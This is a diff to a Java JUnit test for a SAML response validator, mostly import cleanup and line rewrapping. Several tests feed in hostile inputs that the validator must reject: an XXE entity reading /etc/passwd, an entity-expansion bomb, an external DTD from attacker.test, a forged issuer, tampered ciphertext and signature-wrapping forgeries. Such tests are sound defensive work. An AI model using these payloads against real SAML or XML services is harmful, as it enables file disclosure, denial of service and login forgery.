@@ -4,17 +4,23 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import java.io.ByteArrayInputStream;
 import java.io.IOException;
 import java.io.InputStream;
 import java.io.StringWriter;
 import java.nio.charset.StandardCharsets;
+import java.security.cert.X509Certificate;
 import java.time.Duration;
 import java.time.Instant;
+import java.time.temporal.ChronoUnit;
 import java.util.ArrayList;
+import java.util.Base64;
 import java.util.List;
 import java.util.Set;
+import java.util.function.Consumer;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
-
 import javax.xml.parsers.DocumentBuilderFactory;
 import javax.xml.transform.TransformerFactory;
 import javax.xml.transform.dom.DOMSource;
@@ -27,6 +33,7 @@ import org.junit.jupiter.params.provider.Arguments;
 import org.junit.jupiter.params.provider.MethodSource;
 import org.opensaml.security.credential.Credential;
 import org.opensaml.security.x509.BasicX509Credential;
+import org.w3c.dom.Attr;
 import org.w3c.dom.Document;
 import org.w3c.dom.Element;
 import org.w3c.dom.Node;
@@ -58,8 +65,9 @@ class SamlResponseValidatorTest {
 
     /** The expectations of the organization "acme" whose IdP is {@link #IDP}; adjusted per test. */
     static final class Expect {
+
         String idpEntityId = IDP.entityId();
-        List<java.security.cert.X509Certificate> certificates = new ArrayList<>(List.of(IDP.certificate()));
+        List<X509Certificate> certificates = new ArrayList<>(List.of(IDP.certificate()));
         String spEntityId = SP;
         String acsUrl = ACS;
         SignaturePolicy policy = SignaturePolicy.EITHER;
@@ -126,20 +134,23 @@ class SamlResponseValidatorTest {
                 SamlResponseValidator.parse(genuine), expect.build(), Instant.parse("2023-11-18T17:00:00Z"))).reason());
         expect.policy = SignaturePolicy.RESPONSE;
         assertEquals(Rejection.SIGNATURE_MISSING, assertThrows(SamlRejectedException.class, () -> validator.validate(
-                SamlResponseValidator.parse(genuine), expect.build(), Instant.parse("2023-11-18T16:43:05.562Z"))).reason());
+                SamlResponseValidator.parse(genuine), expect.build(), Instant.parse("2023-11-18T16:43:05.562Z")))
+                .reason());
         expect.policy = SignaturePolicy.EITHER;
         expect.certificates = List.of(IDP.certificate());
         assertEquals(Rejection.SIGNATURE_INVALID, assertThrows(SamlRejectedException.class, () -> validator.validate(
-                SamlResponseValidator.parse(genuine), expect.build(), Instant.parse("2023-11-18T16:43:05.562Z"))).reason());
+                SamlResponseValidator.parse(genuine), expect.build(), Instant.parse("2023-11-18T16:43:05.562Z")))
+                .reason());
     }
 
     static Stream<Arguments> jumpCloudVariants() {
         List<Arguments> variants = new ArrayList<>();
-        for (boolean[] signing : new boolean[][] { { true, false }, { false, true }, { true, true } }) {
+        for (boolean[] signing : new boolean[][]{ { true, false }, { false, true }, { true, true } }) {
             for (String format : List.of(SamlIdp.NAMEID_EMAIL, SamlIdp.NAMEID_PERSISTENT, SamlIdp.NAMEID_UNSPECIFIED)) {
                 variants.add(Arguments.of(signing[0], signing[1], format, null, null));
             }
-            variants.add(Arguments.of(signing[0], signing[1], SamlIdp.NAMEID_EMAIL, SamlIdp.RSA_OAEP, SamlIdp.AES256_CBC));
+            variants.add(
+                    Arguments.of(signing[0], signing[1], SamlIdp.NAMEID_EMAIL, SamlIdp.RSA_OAEP, SamlIdp.AES256_CBC));
             variants.add(Arguments.of(signing[0], signing[1], SamlIdp.NAMEID_UNSPECIFIED, SamlIdp.RSA_OAEP,
                     SamlIdp.AES128_GCM));
         }
@@ -198,7 +209,8 @@ class SamlResponseValidatorTest {
         genuine.pendingRequestId = "_request-1";
         SamlRejectedException error = assertThrows(SamlRejectedException.class, () -> validator.validate(
                 SamlResponseValidator.parse(claimInResponseTo(resource("assertion.xml"), "_request-1")
-                        .getBytes(StandardCharsets.UTF_8)), genuine.build(), GENUINE_NOW));
+                        .getBytes(StandardCharsets.UTF_8)),
+                genuine.build(), GENUINE_NOW));
         assertEquals(Rejection.IN_RESPONSE_TO_MISMATCH, error.reason());
     }
 
@@ -224,7 +236,8 @@ class SamlResponseValidatorTest {
     /** Issue 10, item 8: kept until the latest time limit of the assertion plus skew, never a fixed hour. */
     @Test
     void theReplayRecordIsKeptUntilTheAssertionsLatestTimeLimitPlusSkew() {
-        Instant conditionsUntil = Instant.now().plus(Duration.ofMinutes(5)).truncatedTo(java.time.temporal.ChronoUnit.MILLIS);
+        Instant conditionsUntil = Instant.now().plus(Duration.ofMinutes(5))
+                .truncatedTo(ChronoUnit.MILLIS);
         Instant confirmationUntil = conditionsUntil.plus(Duration.ofMinutes(85));
         Duration skew = Duration.ofMinutes(3);
 
@@ -239,7 +252,7 @@ class SamlResponseValidatorTest {
     /** Issue 10, item 9. */
     @Test
     void rsa15KeyTransportIsRefusedBeforeAnyKeyIsUsed() {
-        for (boolean[] signing : new boolean[][] { { true, false }, { false, true }, { true, true } }) {
+        for (boolean[] signing : new boolean[][]{ { true, false }, { false, true }, { true, true } }) {
             rejected(Rejection.ENCRYPTION_ALGORITHM_NOT_ALLOWED, response().signed(signing[0], signing[1])
                     .encryptedFor(SP_KEYS.certificate(), SamlIdp.RSA_1_5, SamlIdp.AES128_GCM).xml());
         }
@@ -262,15 +275,16 @@ class SamlResponseValidatorTest {
     @Test
     void aTamperedCiphertextIsNotDecrypted() {
         String encrypted = response().encryptedFor(SP_KEYS.certificate(), SamlIdp.RSA_OAEP, SamlIdp.AES256_GCM).xml();
-        java.util.regex.Matcher values = java.util.regex.Pattern.compile("<xenc:CipherValue>([^<]+)</xenc:CipherValue>")
+        Matcher values = Pattern.compile("<xenc:CipherValue>([^<]+)</xenc:CipherValue>")
                 .matcher(encrypted);
         String data = null;
         while (values.find()) {
             data = values.group(1); // the last CipherValue is the EncryptedData's
         }
-        byte[] bytes = java.util.Base64.getMimeDecoder().decode(data);
+        byte[] bytes = Base64.getMimeDecoder().decode(data);
         bytes[bytes.length / 2] ^= 1;
-        rejected(Rejection.DECRYPTION_FAILED, encrypted.replace(data, java.util.Base64.getEncoder().encodeToString(bytes)));
+        rejected(Rejection.DECRYPTION_FAILED,
+                encrypted.replace(data, Base64.getEncoder().encodeToString(bytes)));
     }
 
     @Test
@@ -304,11 +318,13 @@ class SamlResponseValidatorTest {
                 + "<saml2p:Status>";
         assertEquals(Rejection.WRONG_ISSUER, assertThrows(SamlRejectedException.class, () -> validator.validate(
                 SamlResponseValidator.parse(xml.replace(wrapperIssuer, wrapperIssuer.replace("IdP Entity ID",
-                        "https://evil-idp.test")).getBytes(StandardCharsets.UTF_8)), genuine.build(), GENUINE_NOW))
+                        "https://evil-idp.test")).getBytes(StandardCharsets.UTF_8)),
+                genuine.build(), GENUINE_NOW))
                 .reason());
         assertEquals(Rejection.WRONG_ISSUER, assertThrows(SamlRejectedException.class, () -> validator.validate(
                 SamlResponseValidator.parse(xml.replace(wrapperIssuer, wrapperIssuer.replace("nameid-format:entity",
-                        "nameid-format:emailAddress")).getBytes(StandardCharsets.UTF_8)), genuine.build(), GENUINE_NOW))
+                        "nameid-format:emailAddress")).getBytes(StandardCharsets.UTF_8)),
+                genuine.build(), GENUINE_NOW))
                 .reason());
         // absent: allowed (the signed assertion's Issuer is then the one checked)
         String withoutIssuer = xml.replaceFirst("<saml2:Issuer xmlns:saml2=\"urn:oasis:names:tc:SAML:2.0:assertion\" "
@@ -342,7 +358,8 @@ class SamlResponseValidatorTest {
                 "<ds:DigestMethod/>"));
         SamlRejectedException error = assertThrows(SamlRejectedException.class, () -> validator.validate(
                 SamlResponseValidator.parse(resource("assertion.xml").replace(digestMethod, "<ds:DigestMethod/>")
-                        .getBytes(StandardCharsets.UTF_8)), genuineExpectations().build(), GENUINE_NOW));
+                        .getBytes(StandardCharsets.UTF_8)),
+                genuineExpectations().build(), GENUINE_NOW));
         assertEquals(Rejection.SIGNATURE_INVALID, error.reason());
     }
 
@@ -356,7 +373,8 @@ class SamlResponseValidatorTest {
         rejected(Rejection.MALFORMED, xml);
         // nesting one element past the limit is enough
         rejected(Rejection.MALFORMED, response().xml().replace("</saml2p:Response>", "<saml2p:Extensions>"
-                + "<a>".repeat(OpenSaml.MAX_DEPTH) + "</a>".repeat(OpenSaml.MAX_DEPTH) + "</saml2p:Extensions></saml2p:Response>"));
+                + "<a>".repeat(OpenSaml.MAX_DEPTH) + "</a>".repeat(OpenSaml.MAX_DEPTH)
+                + "</saml2p:Extensions></saml2p:Response>"));
     }
 
     @Test
@@ -393,7 +411,7 @@ class SamlResponseValidatorTest {
             for (int a = 0; a < attributes; a++) {
                 int attribute = a;
                 tried += mutilate(genuine, expect, document -> ((Element) document.getElementsByTagNameNS("*", "*")
-                        .item(index)).removeAttributeNode((org.w3c.dom.Attr) document.getElementsByTagNameNS("*", "*")
+                        .item(index)).removeAttributeNode((Attr) document.getElementsByTagNameNS("*", "*")
                                 .item(index).getAttributes().item(attribute)));
                 tried += mutilate(genuine, expect, document -> document.getElementsByTagNameNS("*", "*").item(index)
                         .getAttributes().item(attribute).setNodeValue(""));
@@ -402,7 +420,7 @@ class SamlResponseValidatorTest {
         assertTrue(tried > 60, tried + " mutilations");
     }
 
-    private int mutilate(String genuine, Expect expect, java.util.function.Consumer<Document> change) {
+    private int mutilate(String genuine, Expect expect, Consumer<Document> change) {
         String xml = edit(genuine, change);
         try {
             validator.validate(SamlResponseValidator.parse(xml.getBytes(StandardCharsets.UTF_8)), expect.build(),
@@ -470,7 +488,8 @@ class SamlResponseValidatorTest {
     @Test
     void anUnsignedSecondAssertionInASignedResponseIsRefused() {
         rejected(Rejection.ASSERTION_COUNT, response().signed(true, true).withSecondAssertion("admin@acme.test").xml());
-        rejected(Rejection.ASSERTION_COUNT, response().signed(false, true).withSecondAssertion("admin@acme.test").xml());
+        rejected(Rejection.ASSERTION_COUNT,
+                response().signed(false, true).withSecondAssertion("admin@acme.test").xml());
     }
 
     /** Signature wrapping, as SAML Raider names the variants: the signed element stays, a forged one is used. */
@@ -637,8 +656,9 @@ class SamlResponseValidatorTest {
     @Test
     void dtdsExternalEntitiesAndEntityExpansionAreRefusedBeforeAnythingIsRead() {
         String response = response().xml().replace("<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "");
-        rejected(Rejection.DTD_FORBIDDEN, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
-                + response.replace("ada@acme.test<", "&x;<"));
+        rejected(Rejection.DTD_FORBIDDEN,
+                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
+                        + response.replace("ada@acme.test<", "&x;<"));
         rejected(Rejection.DTD_FORBIDDEN, "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">"
                 + "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;\">]>" + response.replace("ada@acme.test<", "&lol3;<"));
         rejected(Rejection.DTD_FORBIDDEN, "<!DOCTYPE r SYSTEM \"http://attacker.test/evil.dtd\">" + response);
@@ -685,11 +705,11 @@ class SamlResponseValidatorTest {
     }
 
     /** Rewrites a signed response through the DOM, as an attacker would, without re-signing it. */
-    static String edit(String xml, java.util.function.Consumer<Document> change) {
+    static String edit(String xml, Consumer<Document> change) {
         try {
             DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
             factory.setNamespaceAware(true);
-            Document document = factory.newDocumentBuilder().parse(new java.io.ByteArrayInputStream(
+            Document document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(
                     xml.getBytes(StandardCharsets.UTF_8)));
             change.accept(document);
             StringWriter out = new StringWriter();
